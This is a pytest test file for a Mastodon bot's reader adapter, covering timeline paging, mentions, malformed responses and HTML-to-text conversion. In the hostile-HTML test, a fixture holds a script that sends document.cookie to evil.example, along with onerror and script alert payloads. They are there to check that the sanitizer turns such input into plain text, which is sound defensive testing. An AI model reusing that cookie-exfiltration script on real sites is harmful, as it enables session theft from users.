"""The Mastodon reader (``TimelineSource``) against the loopback fake: real HTTP through
Mastodon.py, nothing of ours mocked."""

from __future__ import annotations

import asyncio
import json
import logging
import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest

from bot.adapters.mastodon.reader import MastodonReader
from bot.adapters.mastodon.sender import MastodonSender
from bot.adapters.mastodon.text import html_to_text, status_text
from bot.domain import Channel, Publication, Removal, Reply
from bot.ports import PermanentError, RateLimited, TemporaryError, TimelineSource
from tests.data import Network
from tests.fakes.mastodon_api import FakeMastodon

TOKEN = "s3cret-mastodon-token-for-source-tests"
TAG = "gautrinweb2"
TIMELINE = f"/api/v1/timelines/tag/{TAG}"
NOTIFICATIONS = "/api/v1/notifications"
LOGGER = "bot.adapters.mastodon"


@pytest.fixture
def md() -> Iterator[FakeMastodon]:
    with FakeMastodon(token=TOKEN) as fake:
        yield fake


@pytest.fixture
async def reader(md: FakeMastodon) -> AsyncIterator[MastodonReader]:
    source = MastodonReader(md.url, TOKEN, timeout=5.0)
    await source.start()
    yield source
    await source.close()


def tagged(md: FakeMastodon, count: int = 1, account: str = "alice@example.org", **kwargs: Any) -> list[str]:
    """Add ``count`` public statuses carrying the campaign hashtag; their ids, oldest first."""
    return [md.add_remote_status(account, f"<p>Réponse {i} #{TAG}</p>", **kwargs)["id"] for i in range(count)]


def served_page(md: FakeMastodon, statuses: list[dict[str, Any]], path: str = TIMELINE) -> None:
    """The next answer on ``path`` is this list (JSON, as given), whatever was asked."""
    md.malformed(path=path, body=json.dumps(statuses))


def query(md: FakeMastodon, path: str) -> list[str]:
    return [r.query for r in md.requests if r.path == path]


def ids(items: list[Any]) -> list[str]:
    return [item.remote_id for item in items]


# ---- start ---------------------------------------------------------------------------


async def test_reader_implements_the_protocol(reader: MastodonReader) -> None:
    source: TimelineSource = reader
    assert source is reader
    assert reader.account_id is not None
    assert reader.domain == "relais.test"
    assert TOKEN not in repr(reader)


async def test_a_reader_that_could_not_start_starts_when_it_first_reads(md: FakeMastodon) -> None:
    md.add_remote_status("alice@example.org", f"<p>Salut #{TAG}</p>")
    md.fail(path="/api/v1/accounts/verify_credentials", status=503)
    reader = MastodonReader(md.url, TOKEN)
    with pytest.raises(TemporaryError):
        await reader.start()
    page = await reader.hashtag_page(TAG, None)
    assert [r.text for r in page.items] == [f"Salut #{TAG}"]


async def test_bad_token_at_start_is_permanent(md: FakeMastodon) -> None:
    with pytest.raises(PermanentError, match="RELAIS_MASTODON_TOKEN"):
        await MastodonReader(md.url, "wrong-token").start()


async def test_domain_falls_back_to_the_api_host_without_instance_v2(md: FakeMastodon) -> None:
    md.fail(path="/api/v2/instance", status=404, body='{"error": "Record not found"}')
    reader = MastodonReader(md.url, TOKEN)
    await reader.start()
    md.add_remote_status("bob", f"<p>Local #{TAG}</p>")
    page = await reader.hashtag_page(TAG, None)
    assert page.items[0].author_handle == "@bob@127.0.0.1"


# ---- the hashtag timeline ------------------------------------------------------------


@pytest.mark.slow
async def test_paging_forward_from_the_oldest_without_gap_or_duplicate(
    md: FakeMastodon, reader: MastodonReader
) -> None:
    posted = tagged(md, 95)
    pages, after = [], None
    for _ in range(3):
        page = await reader.hashtag_page(TAG, after)
        pages.append(page)
        after = page.cursor
    assert [len(p.items) for p in pages] == [40, 40, 15]
    assert [p.more for p in pages] == [True, True, False]
    read = [item.remote_id for p in pages for item in p.items]
    assert read == posted  # all of them, once, oldest first
    cursors = [int(p.cursor or 0) for p in pages]
    assert cursors == sorted(cursors)
    assert len(set(cursors)) == 3
    assert [p.cursor for p in pages] == [p.items[-1].remote_id for p in pages]
    assert [q.split("&")[0] for q in query(md, TIMELINE)] == [
        "min_id=0",
        f"min_id={pages[0].cursor}",
        f"min_id={pages[1].cursor}",
    ]

    empty = await reader.hashtag_page(TAG, after)
    assert (empty.items, empty.cursor, empty.more) == ([], after, False)

    later = tagged(md, 2)
    page = await reader.hashtag_page(TAG, after)
    assert (ids(page.items), page.cursor, page.more) == (later, later[-1], False)


async def test_nothing_yet_keeps_no_cursor(reader: MastodonReader) -> None:
    page = await reader.hashtag_page(TAG, None)
    assert (page.items, page.cursor, page.more) == ([], None, False)


async def test_the_tag_is_case_insensitive(md: FakeMastodon, reader: MastodonReader) -> None:
    [status] = [md.add_remote_status(content_html="<p>Merci #GautrinWeb2 !</p>", tags=["GautrinWeb2"])]
    page = await reader.hashtag_page("#GautrinWeb2", None)
    assert ids(page.items) == [status["id"]]
    assert page.items[0].hashtags == ("gautrinweb2",)


async def test_statuses_without_the_tag_are_skipped_even_if_the_server_sends_them(
    md: FakeMastodon, reader: MastodonReader
) -> None:
    with_tag, without = tagged(md)[0], md.add_remote_status(content_html="<p>#autre</p>")["id"]
    served_page(md, [md.get_status(without), md.get_status(with_tag)])
    page = await reader.hashtag_page(TAG, None)
    assert ids(page.items) == [with_tag]
    assert page.cursor == without  # read fine: the cursor goes past it


async def test_the_bot_own_statuses_are_never_collected(md: FakeMastodon, reader: MastodonReader) -> None:
    reply = tagged(md)[0]
    sender = MastodonSender(md.url, TOKEN)
    await sender.start()
    publication = Publication(
        campaign="essai",
        id="annonce",
        channel=Channel("mastodon", Network.MASTODON),
        at=datetime(2025, 3, 1, 14, 0, tzinfo=UTC),
        timezone=ZoneInfo("America/Montreal"),
        text=f"Annonce #{TAG}",
        length=15,
        limit=500,
        language="fr",
    )
    ours = (await sender.publish(publication, on_wire=lambda: asyncio.sleep(0))).remote_id
    await sender.close()
    page = await reader.hashtag_page(TAG, None)
    assert ids(page.items) == [reply]
    assert page.cursor == ours  # the newest, read and left out


async def test_bot_account_statuses_are_skipped_too(md: FakeMastodon) -> None:
    reader = MastodonReader(md.url, TOKEN, bot_account="@Annonces")
    await reader.start()
    tagged(md, account="annonces")
    kept = tagged(md, account="annonces@example.org")  # another server: someone else
    page = await reader.hashtag_page(TAG, None)
    assert ids(page.items) == kept


async def test_status_to_reply(md: FakeMastodon, reader: MastodonReader) -> None:
    ours = md.add_remote_status("relais", f"<p>Annonce #{TAG}</p>")
    remote = md.add_remote_status(
        "alice@example.org",
        f"<p>Bravo <a href='{md.url}/tags/{TAG}' class='mention hashtag'>#<span>GautrinWeb2</span></a></p>",
        tags=["GautrinWeb2", "Opengouv"],
        in_reply_to_id=ours["id"],
        language="fr",
        spoiler_text="Politique",
    )
    md.update_account("alice@example.org", display_name="Alice Tremblay")
    md.add_remote_status("bob", f"<p>Moi aussi #{TAG}</p>", language=None)
    page = await reader.hashtag_page(TAG, None)
    first, second = page.items
    assert first == Reply(
        network=Network.MASTODON,
        remote_id=remote["id"],
        text="[CW: Politique]\n\nBravo #GautrinWeb2",
        created_at=datetime.fromisoformat(remote["created_at"]),
        author_id=remote["account"]["id"],
        author_handle="@alice@example.org",
        author_name="Alice Tremblay",
        url=remote["url"],
        language="fr",
        hashtags=("gautrinweb2", "opengouv"),
        in_reply_to=ours["id"],
        edited_at=None,
        author_nobot=False,
        private=False,
    )
    assert first.created_at.tzinfo is not None
    assert first.created_at.utcoffset() == UTC.utcoffset(None)
    assert (second.author_handle, second.author_name, second.language) == ("@bob@relais.test", "bob", None)
    assert second.in_reply_to is None


async def test_nobot_in_the_profile_note_or_fields(md: FakeMastodon, reader: MastodonReader) -> None:
    md.update_account(
        "noted@example.org", note="<p>Pas de robots, merci. <a href='x'>#<span>NoBot</span></a></p>"
    )
    md.update_account(
        "fielded@example.org", fields=[{"name": "Robots", "value": "#nobot", "verified_at": None}]
    )
    md.update_account("other@example.org", note="<p>J'aime les #nobots et #robots</p>")
    noted = tagged(md, account="noted@example.org")
    fielded = tagged(md, account="fielded@example.org")
    other = tagged(md, account="other@example.org")
    page = await reader.hashtag_page(TAG, None)
    flags = {item.remote_id: item.author_nobot for item in page.items}
    assert flags == {noted[0]: True, fielded[0]: True, other[0]: False}


async def test_hostile_html_comes_out_as_plain_text(md: FakeMastodon, reader: MastodonReader) -> None:
    hostile = (
        "<p>Avant<script>fetch('https://evil.example/'+document.cookie)</script>"
        "<style>body{display:none}</style> \u202eRTL\u202c \u200b😀 &lt;img src=x onerror=alert(1)&gt;"
        "<p>jamais fermé <b>gras <i>" + "x" * 100_000
    )
    status = md.add_remote_status(content_html=hostile, tags=[TAG], spoiler_text="<b>CW</b>")
    [reply] = (await reader.hashtag_page(TAG, None)).items
    assert reply.remote_id == status["id"]
    head = (
        "[CW: <b>CW</b>]\n\nAvant \u202eRTL\u202c \u200b😀 <img src=x onerror=alert(1)>\n\njamais fermé gras "
    )
    assert reply.text == head + "x" * 100_000


# ---- mentions ------------------------------------------------------------------------


async def test_mentions_with_private_and_direct_statuses(md: FakeMastodon, reader: MastodonReader) -> None:
    public = md.add_remote_status(content_html="<p>@relais bonjour</p>", mentions=["relais"])
    private = md.add_remote_status(
        "carol@example.org", "<p>@relais en privé</p>", visibility="private", mentions=["relais"]
    )
    direct = md.add_remote_status(
        "dave@example.org", "<p>@relais en direct</p>", visibility="direct", mentions=["relais"]
    )
    first = [md.add_mention_notification(s)["id"] for s in (public, private)]
    md.add_notification("favourite", account="erin@example.org", status=public)
    last = md.add_mention_notification(direct)["id"]
    page = await reader.mentions_page(None)
    assert ids(page.items) == [public["id"], private["id"], direct["id"]]
    assert [item.private for item in page.items] == [False, True, True]
    assert page.items[2].text == "@relais en direct"
    assert (page.cursor, page.more) == (last, False)
    assert int(first[0]) < int(first[1]) < int(last)
    [asked] = query(md, NOTIFICATIONS)
    assert {"types[]=mention", "min_id=0", "limit=40"} <= set(unquote(asked).split("&"))

    again = await reader.mentions_page(page.cursor)
    assert (again.items, again.cursor, again.more) == ([], last, False)
    newer = md.add_remote_status(content_html="<p>@relais encore</p>", mentions=["relais"])
    note = md.add_mention_notification(newer)["id"]
    page = await reader.mentions_page(page.cursor)
    assert (ids(page.items), page.cursor) == ([newer["id"]], note)


async def test_mentions_page_forward(md: FakeMastodon, reader: MastodonReader) -> None:
    notes = [
        md.add_mention_notification(md.add_remote_status(content_html=f"<p>@relais {i}</p>"))["id"]
        for i in range(5)
    ]
    first = await reader.mentions_page(None, limit=3)
    second = await reader.mentions_page(first.cursor, limit=3)
    assert (len(first.items), first.cursor, first.more) == (3, notes[2], True)
    assert (len(second.items), second.cursor, second.more) == (2, notes[4], False)
    assert "types[]=mention" in unquote(query(md, NOTIFICATIONS)[0]).split("&")


# ---- replies, lookups, favourites ----------------------------------------------------


async def test_replies_to_lists_the_descendants_but_ours(md: FakeMastodon, reader: MastodonReader) -> None:
    post = md.add_remote_status("relais", "<p>Annonce</p>")
    alice = md.add_remote_status("alice@example.org", "<p>Oui</p>", in_reply_to_id=post["id"])
    md.add_remote_status("relais", "<p>Merci Alice</p>", in_reply_to_id=alice["id"])
    carol = md.add_remote_status("carol@example.org", "<p>Non</p>", in_reply_to_id=alice["id"])
    md.add_remote_status("dave@example.org", "<p>Ailleurs</p>")
    replies = await reader.replies_to(post["id"])
    assert ids(replies) == [alice["id"], carol["id"]]
    assert replies[1].in_reply_to == alice["id"]


async def test_replies_to_a_deleted_status_are_none(md: FakeMastodon, reader: MastodonReader) -> None:
    post = md.add_remote_status("relais", "<p>Annonce</p>")
    md.delete_status(post["id"])
    assert await reader.replies_to(post["id"]) == []


async def test_lookup_an_edited_status(md: FakeMastodon, reader: MastodonReader) -> None:
    status_id = tagged(md)[0]
    unchanged = await reader.lookup(status_id)
    assert isinstance(unchanged, Reply)
    assert unchanged.edited_at is None
    md.edit_status(status_id, f"<p>Corrigé&nbsp;: #{TAG}</p>")
    edited = await reader.lookup(status_id)
    assert isinstance(edited, Reply)
    assert edited.text == f"Corrigé\u00a0: #{TAG}"
    assert edited.edited_at is not None
    assert edited.edited_at.tzinfo is not None
    assert edited.edited_at >= edited.created_at


async def test_lookup_a_deleted_status_is_a_removal(md: FakeMastodon, reader: MastodonReader) -> None:
    status_id = tagged(md)[0]
    md.delete_status(status_id)
    assert await reader.lookup(status_id) == Removal(Network.MASTODON, status_id)


async def test_lookup_of_a_gone_status_is_a_removal(md: FakeMastodon, reader: MastodonReader) -> None:
    status_id = tagged(md)[0]
    md.fail(path=f"/api/v1/statuses/{status_id}", status=410, body='{"error": "Gone"}')
    assert await reader.lookup(status_id) == Removal(Network.MASTODON, status_id)


async def test_acknowledge_favourites(md: FakeMastodon, reader: MastodonReader) -> None:
    status_id = tagged(md)[0]
    await reader.acknowledge(status_id)
    await reader.acknowledge(status_id)
    status = md.get_status(status_id)
    assert status is not None
    assert (status["favourited"], status["favourites_count"]) == (True, 1)


# ---- malformed answers ---------------------------------------------------------------


async def test_a_malformed_status_is_skipped_and_the_cursor_moves_past_it(
    md: FakeMastodon, reader: MastodonReader, caplog: pytest.LogCaptureFixture
) -> None:
    first, poison, last = tagged(md, 3)
    broken = md.get_status(poison) or {}
    broken["content"] = "<p>SECRET-CONTENT</p>"
    del broken["account"]
    served_page(md, [md.get_status(last), broken, md.get_status(first)])
    with caplog.at_level(logging.WARNING, logger=LOGGER):
        page = await reader.hashtag_page(TAG, None)
    assert (ids(page.items), page.cursor) == ([first, last], last)
    [record] = [r for r in caplog.records if r.name == LOGGER]
    assert record.levelno == logging.WARNING
    assert poison in record.getMessage()
    assert "SECRET" not in record.getMessage()


async def test_a_malformed_newest_status_holds_the_cursor_back(
    md: FakeMastodon, reader: MastodonReader
) -> None:
    first, second, newest = tagged(md, 3)
    no_id = md.get_status(newest) or {}
    del no_id["id"]
    served_page(md, [no_id, md.get_status(second), md.get_status(first)])
    page = await reader.hashtag_page(TAG, None, limit=3)
    assert (ids(page.items), page.cursor, page.more) == ([first, second], second, True)
    # The server sends it whole the next time: it was not lost.
    page = await reader.hashtag_page(TAG, page.cursor, limit=3)
    assert (ids(page.items), page.cursor, page.more) == ([newest], newest, False)


async def test_a_page_of_nothing_readable_is_temporary(md: FakeMastodon, reader: MastodonReader) -> None:
    [status_id] = tagged(md)
    bad = md.get_status(status_id) or {}
    bad["created_at"] = "not a date"
    for body in [[bad], [42, "x"]]:
        served_page(md, body)
        with pytest.raises(TemporaryError, match="malformed"):
            await reader.hashtag_page(TAG, None)
    page = await reader.hashtag_page(TAG, None)
    assert ids(page.items) == [status_id]


@pytest.mark.parametrize(
    "body", ['[{"id": "1", "content": ', '{"error": "oops"}', "null", "<html>502</html>"]
)
async def test_an_unreadable_page_is_temporary(md: FakeMastodon, reader: MastodonReader, body: str) -> None:
    tagged(md)
    md.malformed(path=TIMELINE, body=body)
    with pytest.raises(TemporaryError) as caught:
        await reader.hashtag_page(TAG, "5")
    assert not isinstance(caught.value, RateLimited)


async def test_a_server_that_ignores_min_id_cannot_loop(md: FakeMastodon, reader: MastodonReader) -> None:
    posted = tagged(md, 3)
    page = await reader.hashtag_page(TAG, None, limit=3)
    assert page.more
    served_page(md, [md.get_status(i) for i in reversed(posted)])  # the same page again
    again = await reader.hashtag_page(TAG, page.cursor, limit=3)
    assert (again.items, again.cursor, again.more) == ([], page.cursor, False)


async def test_a_malformed_notification_is_skipped(md: FakeMastodon, reader: MastodonReader) -> None:
    statuses = [md.add_remote_status(content_html=f"<p>@relais {i}</p>") for i in range(3)]
    notes = [md.add_mention_notification(s) for s in statuses]
    notes[1]["status"].pop("account")
    served_page(md, list(reversed(notes)), path=NOTIFICATIONS)
    page = await reader.mentions_page(None)
    assert (ids(page.items), page.cursor) == ([statuses[0]["id"], statuses[2]["id"]], notes[2]["id"])


async def test_a_malformed_looked_up_status_is_temporary(md: FakeMastodon, reader: MastodonReader) -> None:
    [status_id] = tagged(md)
    md.malformed(path=f"/api/v1/statuses/{status_id}", body=json.dumps({"id": status_id}))
    with pytest.raises(TemporaryError, match="malformed"):
        await reader.lookup(status_id)


async def test_a_cursor_that_is_not_an_id_is_refused(reader: MastodonReader) -> None:
    with pytest.raises(ValueError, match="not a Mastodon id"):
        await reader.hashtag_page(TAG, "abc")


# ---- errors --------------------------------------------------------------------------


@pytest.mark.parametrize("path", [TIMELINE, NOTIFICATIONS])
async def test_server_error_is_temporary(md: FakeMastodon, reader: MastodonReader, path: str) -> None:
    md.fail(path=path, status=500)
    reading = reader.hashtag_page(TAG, None) if path == TIMELINE else reader.mentions_page(None)
    with pytest.raises(TemporaryError, match="500") as caught:
        await reading
    assert not isinstance(caught.value, RateLimited)


async def test_rate_limited_with_the_server_reset(md: FakeMastodon, reader: MastodonReader) -> None:
    md.rate_limited(reset_in=30.0, path=TIMELINE)
    with pytest.raises(RateLimited) as caught:
        await reader.hashtag_page(TAG, None)
    assert 25.0 <= caught.value.retry_after <= 32.0


async def test_favouriting_an_unknown_status_is_permanent(md: FakeMastodon, reader: MastodonReader) -> None:
    with pytest.raises(PermanentError, match="404"):
        await reader.acknowledge("12345")


# ---- HTML to text --------------------------------------------------------------------

INVISIBLE_LINK = (
    '<p>Le rapport : <a href="https://www.assnat.qc.ca/fr/travaux-parlementaires/rapport-gouverner-ensemble.html"'
    ' rel="nofollow noopener" target="_blank"><span class="invisible">https://www.</span>'
    '<span class="ellipsis">assnat.qc.ca/fr/travaux-parlem</span><span class="invisible">'
    "entaires/rapport-gouverner-ensemble.html</span></a></p>"
)


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Bonjour<br>le monde</p><p>Deuxième</p>", "Bonjour\nle monde\n\nDeuxième"),
        ("<p>a<br />b<br/><br/>c</p>", "a\nb\n\nc"),
        ("<p>un</p>\n<p>deux</p><p>trois</p>", "un\n\ndeux\n\ntrois"),
        (
            INVISIBLE_LINK,
            "Le rapport : https://www.assnat.qc.ca/fr/travaux-parlementaires/rapport-gouverner-ensemble.html",
        ),
        ("<p>&lt;b&gt; &amp; &quot;x&quot; &#233;t&eacute; &#x1F600;&nbsp;!</p>", '<b> & "x" été 😀\u00a0!'),
        ("<p>a</p><script>alert('x')</script><style>p{color:red}</style><p>b</p>", "a\n\nb"),
        ("<script>document.write('<p>caché</p>')", ""),
        ("<p>non fermé <b>gras <i>italique", "non fermé gras italique"),
        ("</p></div>orphelin<p", "orphelin<p"),
        ("texte <a href='x", "texte <a href='x"),
        ("a <!-- commentaire --> b <!-- ouvert", "a b <!-- ouvert"),
        ("<![CDATA[x]]> <![foo", "<![CDATA[x]]> <![foo"),
        ("<p>  des   espaces \n partout  </p>", "des espaces partout"),
        ("<ul><li>un</li><li>deux</li></ul>fin", "un\ndeux\n\nfin"),
        ("<pre>  code\n    indenté</pre>", "code\n    indenté"),
        ("<p>\u202bשלום\u202c \u200b\u200f👩\u200d💻 🇨🇦</p>", "\u202bשלום\u202c \u200b\u200f👩\u200d💻 🇨🇦"),
        ("a\x00b\x07c\x1b", "abc"),
        ("&#" + "9" * 5000 + "; ok", "\ufffd ok"),
        ("", ""),
    ],
)
def test_html_to_text(html: str, text: str) -> None:
    assert html_to_text(html) == text


def test_content_warning_comes_first() -> None:
    assert status_text("<p>Texte</p>", "Politique") == "[CW: Politique]\n\nTexte"
    assert status_text("<p>Texte</p>", "  ") == "Texte"


@pytest.mark.parametrize("unit", ["mot ", "<a ", "<!--", "<![CDATA[", "</x ", "&", "<", "<p>x", "<a x='"])
def test_100_kb_of_anything_is_read_in_linear_time(unit: str) -> None:
    html = unit * (100_000 // len(unit))
    started = time.perf_counter()
    text = html_to_text(html)
    assert time.perf_counter() - started < 5.0  # html.parser alone takes minutes on some
    assert isinstance(text, str)


async def test_what_we_publish_reads_back_as_we_wrote_it(md: FakeMastodon, reader: MastodonReader) -> None:
    text = (
        "Le rapport est en ligne : https://www.assnat.qc.ca/fr/travaux-parlementaires/rapport.html\n"
        f"Vos réactions avec #{TAG} <3 & merci !\n\nSecond paragraphe."
    )
    sender = MastodonSender(md.url, TOKEN)
    await sender.start()
    publication = Publication(
        campaign="essai",
        id="rapport",
        channel=Channel("mastodon", Network.MASTODON),
        at=datetime(2025, 3, 1, 14, 0, tzinfo=UTC),
        timezone=ZoneInfo("America/Montreal"),
        text=text,
        length=len(text),
        limit=500,
        language="fr",
    )
    receipt = await sender.publish(publication, on_wire=lambda: asyncio.sleep(0))
    await sender.close()
    looked_up = await reader.lookup(receipt.remote_id)
    assert isinstance(looked_up, Reply)
    assert looked_up.text == text
